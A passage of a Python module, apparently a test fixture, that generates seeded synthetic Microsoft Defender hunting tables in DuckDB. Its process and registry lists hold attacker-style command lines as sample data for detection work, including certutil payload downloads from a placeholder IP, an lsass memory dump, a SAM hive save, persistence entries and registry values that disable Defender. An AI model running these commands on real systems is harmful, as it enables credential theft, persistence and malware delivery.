"""A synthetic, seeded, deterministic dataset of Defender advanced hunting tables, generated inside DuckDB.

Column names, order and types follow Microsoft's advanced hunting schema reference (the defender-xdr
``advanced-hunting-<table>-table`` pages). ``AdditionalFields`` and ``DeviceInfo.LoggedOnUsers`` are dynamic, as the
service stores them (the Azure Monitor reference of the same tables, and IdentityLogonEvents' own page, say
``dynamic``; several Defender pages say ``string``): a hunt meets a JSON object there. Kusto strings are never null
(an absent string is ``""``), so nulls appear where the service has them: long, int, bool, datetime, dynamic.

Every row is computed in SQL from ``range(n)``: each choice is ``hash(row, seed, table, salt)`` modulo the size of a
small lookup table (devices, accounts, process and file profiles, command lines) or list, so the whole dataset for
150,000 process events loads in about three seconds on two cores, and the same seed gives the same rows in the same
order (for a given DuckDB version: ``hash()`` is DuckDB's).

Time layout: each row's ``Timestamp`` is ``anchor - offset``; the offset is a function of (row, seed) spread over
the 29 days before the anchor. The anchor is the moment of loading unless a test passes one, so ``ago(7d)`` finds
rows and a 30-day window still holds every row during a day of uptime.

Known values other tests can hunt for (present whatever the seed and size, from 1,000 rows up): ``KNOWN_SHA256``
(updater.exe, launched by powershell.exe from AppData: DeviceProcessEvents, DeviceFileEvents, AlertEvidence),
``KNOWN_DEVICE_NAME`` (every Device* table), ``KNOWN_ACCOUNT_NAME``/``KNOWN_ACCOUNT_UPN`` (DeviceLogonEvents,
IdentityLogonEvents, and the Account columns elsewhere), ``KNOWN_SENDER`` (EmailEvents).
"""

from __future__ import annotations

import hashlib
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime

import duckdb

KNOWN_DEVICE_NAME = "ws-fin-07.contoso.local"
KNOWN_DEVICE_ID = hashlib.sha1(KNOWN_DEVICE_NAME.encode()).hexdigest()  # noqa: S324 - a synthetic id, not security
KNOWN_ACCOUNT_NAME = "alice.martin"
KNOWN_ACCOUNT_DOMAIN = "contoso"
KNOWN_ACCOUNT_UPN = "alice.martin@contoso.com"
KNOWN_SENDER = "billing@c0ntoso-invoices.com"
KNOWN_FILE_NAME = "updater.exe"
KNOWN_SHA256 = hashlib.sha256(b"hunt-relay sandbox: updater.exe").hexdigest()
WINDOW_DAYS = 29

_DEVICES = [  # (name, OSPlatform, DeviceType, MachineGroup); the first is KNOWN_DEVICE_NAME
    (KNOWN_DEVICE_NAME, "Windows11", "Workstation", "Finance"),
    ("ws-fin-03.contoso.local", "Windows11", "Workstation", "Finance"),
    ("ws-hr-01.contoso.local", "Windows10", "Workstation", "HR"),
    ("ws-hr-02.contoso.local", "Windows10", "Workstation", "HR"),
    ("lt-dev-11.contoso.local", "Windows11", "Workstation", "Engineering"),
    ("lt-dev-12.contoso.local", "Windows11", "Workstation", "Engineering"),
    ("lt-sales-04.contoso.local", "Windows10", "Workstation", "Sales"),
    ("lt-exec-01.contoso.local", "Windows11", "Workstation", "Executives"),
    ("srv-dc-01.contoso.local", "WindowsServer2022", "Server", "Tier0"),
    ("srv-dc-02.contoso.local", "WindowsServer2022", "Server", "Tier0"),
    ("srv-sql-02.contoso.local", "WindowsServer2019", "Server", "Servers"),
    ("srv-web-01.contoso.local", "WindowsServer2019", "Server", "Servers"),
    ("srv-file-01.contoso.local", "WindowsServer2016", "Server", "Servers"),
    ("build-agent-3.contoso.local", "Linux", "Server", "Engineering"),
    ("mac-design-02", "macOS", "Workstation", "Design"),
    ("ws-kiosk-lobby.contoso.local", "Windows10", "Workstation", "Facilities"),
]
_OS = {"Windows11": ("10.0", 22631), "Windows10": ("10.0", 19045), "WindowsServer2022": ("10.0", 20348),
       "WindowsServer2019": ("10.0", 17763), "WindowsServer2016": ("10.0", 14393), "Linux": ("5.15", None),
       "macOS": ("14.4", None)}
_ACCOUNTS = [  # (AccountName, display name); the first is KNOWN_ACCOUNT_NAME
    (KNOWN_ACCOUNT_NAME, "Alice Martin"), ("bob.nguyen", "Bob Nguyen"), ("chloé.dubois", "Chloé Dubois"),
    ("zoë.o'connor", "Zoë O'Connor"), ("wei.zhang", "张伟"), ("dmitri.ivanov", "Дмитрий Иванов"),
    ("fatima.alsayed", "فاطمة السيد"), ("svc-backup", "Backup Service"), ("adm-jsmith", "John Smith (admin)"),
    ("kenji.tanaka", "田中 健二"), ("maria.garcia", "María García"), ("svc-sql", "SQL Service"),
]
_MS = ("Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.19041.3996")
_OFFICE = "16.0.17531.20140"
_SIGNED = ("OsVendor", "Valid")
_UNSIGNED = ("None", "Unsigned")
_NONE = ("", "", "")
_SYSTEM32 = "C:\\Windows\\System32\\"
_APPDATA = "C:\\Users\\{user}\\AppData\\"
_CHROME = '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'
_OFFICE16 = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_UPDATER_PATH = _APPDATA + "Roaming\\Microsoft\\updater.exe"
# (FileName, FolderPath, (company, product, version), description, integrity, (signer, status), size, command lines)
# Executables first (process events pick among them); file events may also pick the documents after them.
_Profile = tuple[str, str, tuple[str, str, str], str, str, tuple[str, str], int, list[str] | None]
_PROFILES: list[_Profile] = [
    ("powershell.exe", _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", _MS, "Windows PowerShell", "Medium",
     _SIGNED, 448000, [
         'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "' + _APPDATA + 'Local\\Temp\\setup.ps1"',
         '"' + _SYSTEM32 + 'WindowsPowerShell\\v1.0\\powershell.exe" -Command "Get-ChildItem \''
         + _APPDATA + 'Roaming\' -Recurse"',
         "powershell.exe -EncodedCommand "
         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
         'powershell.exe -c "Write-Output \\"it\'s done\\"; Remove-Item C:\\Temp\\*.log"']),
    ("conhost.exe", _SYSTEM32 + "conhost.exe", _MS, "Console Window Host", "Medium", _SIGNED, 868352, [
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "conhost.exe --headless --width 80 --height 25", '"conhost.exe" 0x4']),
    ("cmd.exe", _SYSTEM32 + "cmd.exe", _MS, "Windows Command Processor", "Medium", _SIGNED, 323584, [
        'cmd.exe /c "' + _APPDATA + 'Local\\Temp\\run.bat"', 'cmd.exe /c echo "done" > C:\\Temp\\out.txt',
        'C:\\Windows\\system32\\cmd.exe /d /s /c "whoami /all"', "cmd.exe /c dir 'C:\\Program Files'"]),
    ("svchost.exe", _SYSTEM32 + "svchost.exe", _MS, "Host Process for Windows Services", "System", _SIGNED, 57360, [
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
        "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p",
        "C:\\Windows\\system32\\svchost.exe -k RPCSS -p"]),
    ("explorer.exe", "C:\\Windows\\explorer.exe", _MS, "Windows Explorer", "Medium", _SIGNED, 5058560, [
        "C:\\Windows\\Explorer.EXE", "C:\\Windows\\Explorer.EXE",
        '"C:\\Windows\\explorer.exe" /select,"C:\\Users\\{user}\\Downloads\\résumé.pdf"',
        '"C:\\Windows\\explorer.exe" /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding']),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     ("Google LLC", "Google Chrome", "124.0.6367.91"), "Google Chrome", "Low", ("ThirdParty", "Valid"), 3126784, [
         _CHROME + " --type=renderer --lang=fr",
         _CHROME + ' "https://contoso.sharepoint.com/sites/finance?q=o\'brien&x=\\"1\\""',
         _CHROME + ' --profile-directory="Default"',
         _CHROME + " --single-argument C:\\Users\\{user}\\Downloads\\报告.html"]),
    ("OUTLOOK.EXE", _OFFICE16 + "OUTLOOK.EXE", ("Microsoft Corporation", "Microsoft Outlook", _OFFICE),
     "Microsoft Outlook", "Medium", ("Microsoft", "Valid"), 42150832, [
         '"OUTLOOK.EXE" /restore', '"OUTLOOK.EXE"',
         '"' + _OFFICE16 + 'OUTLOOK.EXE" /eml "' + _APPDATA + 'Local\\Temp\\Facture n°123.eml"',
         '"OUTLOOK.EXE" /recycle']),
    ("WINWORD.EXE", _OFFICE16 + "WINWORD.EXE", ("Microsoft Corporation", "Microsoft Word", _OFFICE),
     "Microsoft Word", "Medium", ("Microsoft", "Valid"), 1868736, [
         '"WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\报告.docx"',
         '"WINWORD.EXE" "C:\\Users\\{user}\\Documents\\résumé.docx"', '"WINWORD.EXE" /n /dde',
         '"WINWORD.EXE" "\\\\srv-file-01\\Finance$\\Q3 budget \'final\'.docx"']),
    ("rundll32.exe", _SYSTEM32 + "rundll32.exe", _MS, "Windows host process (Rundll32)", "High", _SIGNED, 71680, [
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 " + _APPDATA + "Local\\Temp\\lsass.dmp full",
        "rundll32.exe shell32.dll,Control_RunDLL",
        'rundll32.exe "' + _APPDATA + 'Roaming\\Microsoft\\helper.dll",DllMain',
        "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\srv-file-01\\printer"]),
    ("reg.exe", _SYSTEM32 + "reg.exe", _MS, "Registry Console Tool", "High", _SIGNED, 73728, [
        'reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Updater /t REG_SZ /d "'
        + _UPDATER_PATH + '" /f',
        "reg.exe query HKLM\\SYSTEM\\CurrentControlSet\\Services", "reg.exe save HKLM\\SAM C:\\Temp\\sam.save",
        'reg.exe query "HKCU\\Software\\报告\\设置"']),
    ("schtasks.exe", _SYSTEM32 + "schtasks.exe", _MS, "Task Scheduler Configuration Tool", "High", _SIGNED, 235008, [
        'schtasks.exe /create /tn "Updater" /tr "\'' + _UPDATER_PATH + '\' /silent" /sc onlogon',
        "schtasks.exe /query /fo LIST /v", 'schtasks.exe /run /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"',
        'schtasks.exe /delete /tn "Updater" /f']),
    ("whoami.exe", _SYSTEM32 + "whoami.exe", _MS, "whoami - displays logged on user information", "Medium", _SIGNED,
     73728, ["whoami.exe /all", "whoami /priv", "whoami /groups", "whoami.exe"]),
    ("net.exe", _SYSTEM32 + "net.exe", _MS, "Net Command", "Medium", _SIGNED, 57344, [
        "net.exe user /domain", 'net.exe group "Domain Admins" /domain',
        "net use \\\\srv-file-01\\Finance$ /user:CONTOSO\\{user}", "net.exe localgroup administrators"]),
    ("certutil.exe", _SYSTEM32 + "certutil.exe", _MS, "CertUtil.exe", "Medium", _SIGNED, 1557504, [
        "certutil.exe -urlcache -split -f http://198.51.100.23/a.txt " + _APPDATA + "Local\\Temp\\a.txt",
        "certutil.exe -decode " + _APPDATA + "Local\\Temp\\a.txt " + _APPDATA + "Local\\Temp\\a.exe",
        "certutil.exe -hashfile C:\\Temp\\x.bin SHA256", "certutil.exe -store my"]),
    ("notepad.exe", _SYSTEM32 + "notepad.exe", _MS, "Notepad", "Medium", _SIGNED, 201216, [
        'notepad.exe "C:\\Users\\{user}\\Desktop\\😀 notes.txt"',
        '"notepad.exe" C:\\Users\\{user}\\Documents\\résumé.txt',
        'notepad.exe "C:\\Users\\{user}\\Documents\\报告.txt"', "notepad.exe"]),
    (KNOWN_FILE_NAME, _UPDATER_PATH, _NONE, "", "Medium", _UNSIGNED, 1337344, [
        '"' + _UPDATER_PATH + '" /silent', _UPDATER_PATH + " -connect cdn-update.c0ntoso-invoices.com:8443",
        '"' + _UPDATER_PATH + '" --install "' + _APPDATA + 'Local\\Temp\\x.cfg"', _UPDATER_PATH]),
    ("résumé.pdf.exe", "C:\\Users\\{user}\\Downloads\\résumé.pdf.exe", _NONE, "PDF Viewer", "Medium", _UNSIGNED,
     245760, [
        '"C:\\Users\\{user}\\Downloads\\résumé.pdf.exe"', '"C:\\Users\\{user}\\Downloads\\résumé.pdf.exe" /q',
        '"C:\\Users\\{user}\\Downloads\\résumé.pdf.exe" --lang=zh "报告"',
        '"' + _APPDATA + 'Local\\Temp\\résumé.pdf.exe"']),
    ("résumé.pdf", "C:\\Users\\{user}\\Downloads\\résumé.pdf", _NONE, "", "", ("", ""), 84211, None),
    ("报告.docx", "C:\\Users\\{user}\\Documents\\报告.docx", _NONE, "", "", ("", ""), 23415, None),
    ("😀 party invite.lnk", "C:\\Users\\{user}\\Desktop\\😀 party invite.lnk", _NONE, "", "", ("", ""), 1962, None),
    ("Q3 budget 'final'.xlsx", "\\\\srv-file-01\\Finance$\\Q3 budget 'final'.xlsx", _NONE, "", "", ("", ""), 310440,
     None),
    ('invoice "4821".zip', 'C:\\Users\\{user}\\Downloads\\invoice "4821".zip', _NONE, "", "", ("", ""), 91022, None),
]
_EXECUTABLES = sum(1 for profile in _PROFILES if profile[7] is not None)
_UPDATER = next(k for k, profile in enumerate(_PROFILES) if profile[0] == KNOWN_FILE_NAME)
# Initiating processes, weighted: powershell.exe is common, as it is in hunts
_INITIATORS = [0, 0, 0, 0, 0, 2, 2, 2, 4, 4, 4, 3, 3, 3, 6, 7, 5, _UPDATER, 8]
_PARENTS = ["explorer.exe", "svchost.exe", "services.exe", "userinit.exe", "WmiPrvSE.exe", "OUTLOOK.EXE"]
_ELEVATION = ["TokenElevationTypeDefault", "TokenElevationTypeLimited", "TokenElevationTypeFull"]
_ENDPOINTS = [  # (RemoteUrl, RemoteIP, RemotePort, RemoteIPType, Protocol); the known rows reach _C2
    ("login.microsoftonline.com", "20.190.151.7", 443, "Public", "Tcp"),
    ("contoso.sharepoint.com", "13.107.136.9", 443, "Public", "Tcp"),
    ("www.bing.com", "204.79.197.200", 443, "Public", "Tcp"),
    ("", "10.1.1.28", 445, "Private", "Tcp"),
    ("", "10.1.1.29", 389, "Private", "Tcp"),
    ("cdn-update.c0ntoso-invoices.com", "198.51.100.23", 8443, "Public", "Tcp"),
    ("", "8.8.8.8", 53, "Public", "Udp"),
    ("github.com", "140.82.121.4", 443, "Public", "Tcp"),
    ("xn--bcher-kva.example", "192.0.2.44", 80, "Public", "Tcp"),
    ("", "fe80::1ff:fe23:4567:890a", 5355, "Private", "Udp"),
    ("", "127.0.0.1", 8080, "Loopback", "Tcp"),
    ("api.contoso.com/v1/items?name=o'brien&q=\"x\"", "52.168.112.66", 443, "Public", "Tcp"),
]
_C2 = 5
_HKCU = "HKEY_CURRENT_USER\\{sid}\\Software\\"
_HKLM = "HKEY_LOCAL_MACHINE\\"
_REGISTRY = [  # (RegistryKey, RegistryValueName, RegistryValueType, RegistryValueData); the first is the persistence
    (_HKCU + "Microsoft\\Windows\\CurrentVersion\\Run", "Updater", "String", '"' + _UPDATER_PATH + '" /silent'),
    (_HKLM + "SYSTEM\\ControlSet001\\Services\\WinDefend", "Start", "Dword", "2"),
    (_HKLM + "SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "Dword", "1"),
    (_HKCU + "Microsoft\\Office\\16.0\\Word\\File MRU", "Item 1", "String",
     "[F00000000][T01DA5C2E8B3F1A20]*C:\\Users\\{user}\\Documents\\résumé.docx"),
    (_HKLM + "SYSTEM\\CurrentControlSet\\Control\\Lsa", "RunAsPPL", "Dword", "0"),
    (_HKCU + "Classes\\ms-settings\\shell\\open\\command", "(Default)", "String",
     'cmd.exe /c "start ' + _APPDATA + 'Local\\Temp\\run.bat"'),
    (_HKCU + "报告\\设置", "路径", "ExpandString", "%USERPROFILE%\\Documents\\报告.docx"),
    (_HKLM + "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{7C9F3B2A-1D2E-4F5A-9B8C-0D1E2F3A4B5C}",
     "DisplayName", "String", 'Contoso Agent "Pro" 2.1'),
]
_MDE, _MDO, _MDI, _MDA = ("Microsoft Defender for Endpoint", "Microsoft Defender for Office 365",
                          "Microsoft Defender for Identity", "Microsoft Defender for Cloud Apps")
_ALERTS = [  # (Title, Category, Severity, ServiceSource, DetectionSource, AttackTechniques); 0: the updater.exe alert
    ("Suspicious process launched from a user's AppData folder", "Execution", "High", _MDE, "EDR",
     '["User Execution (T1204)","PowerShell (T1059.001)"]'),
    ("'Mimikatz' credential theft tool", "CredentialAccess", "High", _MDE, "Antivirus",
     '["OS Credential Dumping (T1003)"]'),
    ("Email messages containing malicious URL removed after delivery", "InitialAccess", "Medium", _MDO, _MDO,
     '["Phishing (T1566)"]'),
    ("Suspicious Kerberos SPN enumeration", "Discovery", "Medium", _MDI, _MDI, '["Account Discovery (T1087)"]'),
    ("Unusual sign-in from an unfamiliar location", "InitialAccess", "Low", _MDA, _MDA, "[]"),
    ('Scheduled task "Updater" created for persistence', "Persistence", "Medium", _MDE, "EDR",
     '["Scheduled Task (T1053.005)"]'),
]
_SENDERS = [  # (address, display name, domain, IPv4); the first is KNOWN_SENDER
    (KNOWN_SENDER, "Contoso Billing 💶", "c0ntoso-invoices.com", "198.51.100.23"),
    ("newsletter@fabrikam.com", "Fabrikam News", "fabrikam.com", "192.0.2.10"),
    ("no-reply@microsoft.com", "Microsoft", "microsoft.com", "40.107.22.50"),
    ("jean.dupont@exemple.fr", "Jean « Jeannot » Dupont", "exemple.fr", "192.0.2.77"),
    ("o'brien@tailspin.example", "Pat O'Brien", "tailspin.example", "192.0.2.91"),
    ("hr@contoso.com", "Contoso HR", "contoso.com", "10.1.0.40"),
    ("李雷@例子.中国", "李雷", "例子.中国", "192.0.2.120"),
]
_SUBJECTS = ["Invoice #4821 overdue – action required", 'Facture n°123 – merci de régler "avant vendredi"',
             "请查收：季度报告", "Your 'Q3' results 📈", "Password expires in 3 days", "Re: C:\\Shared\\plan.docx", ""]


def _lit(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _pick(values: list[str] | list[int], bits: str, sql_type: str = "VARCHAR") -> str:
    """The value at ``bits % len(values)``: a deterministic choice from a literal list."""
    items = ", ".join(_lit(v) if isinstance(v, str) else str(v) for v in values)
    return f"CAST([{items}] AS {sql_type}[])[1 + CAST(({bits}) % {len(values)} AS BIGINT)]"


def _user(expr: str) -> str:
    return f"replace(replace({expr}, '{{user}}', a.AccountName), '{{sid}}', a.AccountSid)"


def _pid(bits: str, shift: int) -> str:
    return f"CAST(4 + 4 * (({bits} >> {shift}) % 16000) AS BIGINT)"


def _guid(expr: str) -> str:
    groups = r"'^(.{8})(.{4})(.{4})(.{4})(.{12})$', '\1-\2-\3-\4-\5'"
    return f"regexp_replace(md5(CAST({expr} AS VARCHAR)), {groups})"


_DYNAMIC = """CASE b.hw % 5 WHEN 0 THEN NULL
  WHEN 1 THEN json_object('ProcessStartKey', b.i * 7919 + 17, 'IsRemote', b.hz % 17 = 0)
  WHEN 2 THEN json_object('Note', 'naïve "quoted" C:\\Temp\\x', 'Tags', ['review', '报告', '😀'])
  WHEN 3 THEN json_object('Nested', json_object('Level', 2, 'Items', [1, 2, 3]), 'Missing', NULL)
  ELSE json_object() END"""
_SESSION = "b.hz % 17 = 0"
_LOGON_ID = "CAST((b.hw >> 20) % 100000000 AS BIGINT)"
_IP = {"Domain": "AccountDomain", "Name": "AccountName", "Sid": "AccountSid", "Upn": "AccountUpn",
       "ObjectId": "AccountObjectId"}
_VERSION = {"CompanyName": "Company", "ProductName": "Product", "ProductVersion": "Version",
            "InternalFileName": "InternalName", "OriginalFileName": "OriginalName", "FileDescription": "Description"}

# Column -> SQL over the joined row: b (i, k, ts, hx..hw bits), d device, a account, ip/cp initiating/target profile,
# ipc/cpc their command lines. Tables override what differs.
COMMON: dict[str, str] = {
    "Timestamp": "b.ts", "DeviceId": "d.DeviceId", "DeviceName": "d.DeviceName", "ActionType": "'ProcessCreated'",
    "FileName": "cp.FileName", "FolderPath": _user("cp.FolderPath"), "SHA1": "cp.SHA1", "MD5": "cp.MD5",
    "SHA256": f"CASE WHEN cp.k = {_UPDATER} OR b.hz % 3 = 0 THEN cp.SHA256 ELSE '' END",
    "FileSize": "CASE WHEN b.hy % 23 = 0 THEN NULL ELSE cp.FileSize END",
    **{f"ProcessVersionInfo{name}": f"cp.{column}" for name, column in _VERSION.items()},
    **{f"InitiatingProcessVersionInfo{name}": f"ip.{column}" for name, column in _VERSION.items()},
    **{f"InitiatingProcessAccount{name}": f"a.{column}" for name, column in _IP.items()},
    **{column: f"a.{column}" for column in _IP.values()},
    "ProcessId": _pid("b.hy", 16), "ProcessCommandLine": _user("coalesce(cpc.CommandLine, '')"),
    "ProcessIntegrityLevel": "cp.Integrity", "ProcessTokenElevation": _pick(_ELEVATION, "b.hz >> 4"),
    "ProcessCreationTime": "b.ts - to_microseconds(CAST(b.hz % 5000 AS BIGINT))",
    "LogonId": _LOGON_ID, "InitiatingProcessLogonId": _LOGON_ID, "InitiatingProcessIntegrityLevel": "ip.Integrity",
    "InitiatingProcessTokenElevation": _pick(_ELEVATION, "b.hw >> 4"),
    "InitiatingProcessSHA1": "ip.SHA1", "InitiatingProcessMD5": "ip.MD5", "InitiatingProcessFileName": "ip.FileName",
    "InitiatingProcessSHA256": "CASE WHEN b.hw % 2 = 0 THEN ip.SHA256 ELSE '' END",
    "InitiatingProcessFileSize": "ip.FileSize",
    "InitiatingProcessId": _pid("b.hx", 16), "InitiatingProcessCommandLine": _user("coalesce(ipc.CommandLine, '')"),
    "InitiatingProcessCreationTime": "b.ts - to_microseconds(CAST((b.hx >> 20) % 3600000000 AS BIGINT))",
    "InitiatingProcessFolderPath": _user("ip.FolderPath"), "InitiatingProcessParentId": _pid("b.hx", 40),
    "InitiatingProcessParentFileName": _pick(_PARENTS, "b.hx >> 8"),
    "InitiatingProcessParentCreationTime": "CASE WHEN b.hx % 11 <> 0 THEN b.ts "
                                           "- to_microseconds(CAST((b.hy >> 12) % 86400000000 AS BIGINT)) END",
    "InitiatingProcessSignerType": "ip.SignerType", "InitiatingProcessSignatureStatus": "ip.SignatureStatus",
    "ReportId": "CAST(1000 + (b.i * 7) % 65536 AS BIGINT)", "AppGuardContainerId": "''", "AdditionalFields": _DYNAMIC,
    "InitiatingProcessSessionId": "CAST(b.hz % 3 AS BIGINT)", "CreatedProcessSessionId": "CAST(b.hz % 3 AS BIGINT)",
    "IsInitiatingProcessRemoteSession": _SESSION, "IsProcessRemoteSession": _SESSION,
    "InitiatingProcessRemoteSessionDeviceName": f"CASE WHEN {_SESSION} THEN 'jump-01.contoso.local' ELSE '' END",
    "ProcessRemoteSessionDeviceName": f"CASE WHEN {_SESSION} THEN 'jump-01.contoso.local' ELSE '' END",
    "InitiatingProcessRemoteSessionIP": f"CASE WHEN {_SESSION} THEN '10.1.9.5' ELSE '' END",
    "ProcessRemoteSessionIP": f"CASE WHEN {_SESSION} THEN '10.1.9.5' ELSE '' END",
    "LocalIP": "d.LocalIP", "LocalIPType": "'Private'", "LocalPort": "CAST(49152 + (b.hz >> 8) % 16000 AS INTEGER)",
    "RemoteDeviceName": "''", "RemoteUrl": "''", "RemoteIP": "''", "RemotePort": "CAST(NULL AS INTEGER)",
    **{column: "''" for column in ("FileOriginUrl", "FileOriginIP", "RegistryKey", "RegistryValueName",
                                    "RegistryValueData")},
}
_LONG = {"FileSize", "ProcessId", "LogonId", "InitiatingProcessLogonId", "InitiatingProcessFileSize",
         "InitiatingProcessId", "InitiatingProcessParentId", "ReportId", "InitiatingProcessSessionId",
         "CreatedProcessSessionId", "OSBuild", "EmailClusterId"}
_INT = {"RemotePort", "LocalPort", "RequestSourcePort", "ApplicationId", "BulkComplaintLevel", "AttachmentCount",
        "UrlCount", "Port", "DestinationPort"}
_DATETIME = {"Timestamp", "ProcessCreationTime", "InitiatingProcessCreationTime", "InitiatingProcessParentCreationTime"}
_BOOL = {"IsInitiatingProcessRemoteSession", "IsProcessRemoteSession", "IsAzureInfoProtectionApplied", "IsLocalAdmin",
         "IsAzureADJoined", "IsInternetFacing", "IsExcluded"}
_DYNAMIC_COLUMNS = {"AdditionalFields", "LoggedOnUsers"}
SQL_TYPES = {"string": "VARCHAR", "long": "BIGINT", "int": "INTEGER", "datetime": "TIMESTAMP", "bool": "BOOLEAN",
             "dynamic": "JSON"}


def _kusto_type(column: str, table: str) -> str:
    if column == "ReportId" and table in ("EmailEvents", "IdentityLogonEvents"):
        return "string"
    for names, kusto in ((_LONG, "long"), (_INT, "int"), (_DATETIME, "datetime"), (_BOOL, "bool"),
                         (_DYNAMIC_COLUMNS, "dynamic")):
        if column in names:
            return kusto
    return "string"


def _action(names: list[str], bits: str = "b.hw >> 2") -> tuple[str, str]:
    """ActionType over *names*, and the SQL index of the chosen name (for columns that depend on it)."""
    return _pick(names, bits), f"(({bits}) % {len(names)})"


_NET_BITS = f"CASE WHEN b.i % 41 = 0 THEN {_C2} ELSE b.hy >> 8 END"
_NET_ACTION, _NET_ACT = _action(["ConnectionSuccess", "ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed",
                                 "InboundConnectionAccepted", "ListeningConnectionCreated"])
_FILE_ACTION, _FILE_ACT = _action(["FileCreated", "FileModified", "FileRenamed", "FileDeleted"],
                                  "CASE WHEN b.i % 41 = 0 THEN 0 ELSE b.hw >> 2 END")
_SMB = "b.hz % 7 = 0"
_REG_BITS = "CASE WHEN b.i % 41 = 0 THEN 0 ELSE b.hy >> 8 END"
_REG_ACTION, _REG_ACT = _action(["RegistryValueSet", "RegistryValueSet", "RegistryKeyCreated", "RegistryValueDeleted"])
_EVENT_ACTION, _EVENT_ACT = _action(["AntivirusDetection", "PowerShellCommand", "ScheduledTaskCreated",
                                     "UsbDriveMounted", "DnsQueryResponse", "SmartScreenUrlWarning",
                                     "ExploitGuardNetworkProtectionBlocked"])
_LOGON_ACTION, _LOGON_ACT = _action(["LogonSuccess", "LogonSuccess", "LogonSuccess", "LogonFailed", "LogonAttempted"])
_LOGON_TYPE = "b.hz >> 2"
_REMOTE_LOGON = f"({_LOGON_TYPE}) % 7 IN (1, 2)"
_ALERT_BITS = "CASE WHEN b.k % 5 = 0 THEN 0 ELSE b.hx >> 2 END"
_ALERT_BITS_BASE = "CASE WHEN $KEY % 5 = 0 THEN 0 ELSE $HX >> 2 END"  # the same choice, inside the base query
_ALERT = {name: _pick([alert[n] for alert in _ALERTS], _ALERT_BITS)
          for n, name in enumerate(["Title", "Category", "Severity", "ServiceSource", "DetectionSource",
                                    "AttackTechniques"])}
_ALERT_ID = ("'da' || lpad(CAST(hash(b.k, $SEED, 'AlertId') % 1000000000000000000 AS VARCHAR), 18, '0') || '_' || "
             "CAST(hash(b.k, $SEED, 'AlertId2') % 2147483647 AS VARCHAR)")
_ROLE = "b.i % 3"
_SENDER_BITS = "CASE WHEN b.i % 13 = 0 THEN 0 ELSE b.hx >> 4 END"
_SENDER = {name: _pick([sender[n] for sender in _SENDERS], _SENDER_BITS)
           for n, name in enumerate(["Address", "Display", "Domain", "IPv4"])}
_DELIVERY = "b.hz >> 2"
_MESSAGE_ID = _guid("hash(b.i, $SEED, 'NetworkMessageId')")
_FAILED_IDENTITY = "(b.hw >> 2) % 3 = 2"
_PHISH = f"({_SENDER_BITS}) % {len(_SENDERS)} = 0"
_LOGON_FAILURE = _pick(["InvalidUserNameOrPassword", "AccountLocked", "UserNameDoesNotExist"], "b.hy >> 3")
_DOWNLOADS = _user(_lit(r"C:\Users\{user}\Downloads"))


@dataclass(frozen=True)
class TableSpec:
    """One table: its columns in schema order, how many rows for a given DeviceProcessEvents size, and the SQL that
    differs from ``COMMON``. ``key`` is what a row's choices hash (AlertEvidence hashes its alert, so that an alert's
    three evidence rows and its AlertInfo row agree); ``base`` overrides the device, account, profile keys or time."""

    name: str
    size: Callable[[int], int]
    columns: str
    exprs: dict[str, str] = field(default_factory=dict)
    key: str = "i"
    salt: str = ""
    base: dict[str, str] = field(default_factory=dict)

    def column_names(self) -> list[str]:
        return self.columns.split()


_INITIATING = """InitiatingProcessAccountDomain InitiatingProcessAccountName InitiatingProcessAccountSid
    InitiatingProcessAccountUpn InitiatingProcessAccountObjectId InitiatingProcessIntegrityLevel
    InitiatingProcessTokenElevation InitiatingProcessSHA1 InitiatingProcessSHA256 InitiatingProcessMD5
    InitiatingProcessFileName InitiatingProcessFileSize InitiatingProcessVersionInfoCompanyName
    InitiatingProcessVersionInfoProductName InitiatingProcessVersionInfoProductVersion
    InitiatingProcessVersionInfoInternalFileName InitiatingProcessVersionInfoOriginalFileName
    InitiatingProcessVersionInfoFileDescription InitiatingProcessId InitiatingProcessCommandLine
    InitiatingProcessCreationTime InitiatingProcessFolderPath InitiatingProcessParentId InitiatingProcessParentFileName
    InitiatingProcessParentCreationTime"""
_REMOTE_SESSION = """InitiatingProcessSessionId IsInitiatingProcessRemoteSession
    InitiatingProcessRemoteSessionDeviceName InitiatingProcessRemoteSessionIP"""
_FORCED_DEVICE_ROWS = {"ik": "CASE WHEN i % 41 = 0 THEN 0 ELSE $INITIATOR END",
                       "ck": f"CASE WHEN i % 41 = 0 THEN {_UPDATER} ELSE $TARGET END"}

TABLES: list[TableSpec] = [
    TableSpec("DeviceProcessEvents", lambda rows: rows, """Timestamp DeviceId DeviceName ActionType FileName FolderPath
        SHA1 SHA256 MD5 FileSize ProcessVersionInfoCompanyName ProcessVersionInfoProductName
        ProcessVersionInfoProductVersion ProcessVersionInfoInternalFileName ProcessVersionInfoOriginalFileName
        ProcessVersionInfoFileDescription ProcessId ProcessCommandLine ProcessIntegrityLevel ProcessTokenElevation
        ProcessCreationTime AccountDomain AccountName AccountSid AccountUpn AccountObjectId LogonId
        InitiatingProcessAccountDomain InitiatingProcessAccountName InitiatingProcessAccountSid
        InitiatingProcessAccountUpn InitiatingProcessAccountObjectId InitiatingProcessLogonId
